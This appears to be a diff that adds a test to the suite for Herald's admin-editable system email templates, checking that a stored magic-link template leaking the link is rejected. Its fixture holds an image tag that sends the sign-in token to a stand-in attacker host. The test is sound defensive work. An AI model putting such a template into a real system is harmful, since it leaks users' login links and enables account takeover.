@@ -150,6 +150,19 @@ describe('Herald’s own email templates under /admin/system-templates', () => {
     expect(mail.parsed.html).not.toContain('attacker.example');
   });
 
+  it('when a replacement stored before the link rule sends the link to another host, then the built-in email goes out instead', async () => {
+    await sut.system.api.db.query(`INSERT INTO system_templates (name, body) VALUES ('auth.magic_link', $1)`, [
+      '<p>Stored earlier</p><img src="https://attacker.example/p.gif?t={{link}}"><a href="{{link}}">in</a>',
+    ]);
+    const { mail, address } = await nextMagicLinkEmail();
+    expect(mail.parsed.html).toContain('Sign in to Herald');
+    expect(mail.parsed.html).not.toContain('attacker.example');
+    const signedIn = await http()
+      .post('/api/v1/auth/magic-link/verify')
+      .send({ token: linkTokenIn(sut.smtp, address) });
+    expect(signedIn.status).toBe(200);
+  });
+
   it('when a replacement puts the link as an <a> href and as text of its own, then it is accepted, as the built-in ones are', async () => {
     const legit = await http().put(MAGIC).set(writer.auth).send({
       body: "<p><a href='{{ link }}' style='color:#333'>Sign in</a></p><p>Or paste: {{link}}</p>",
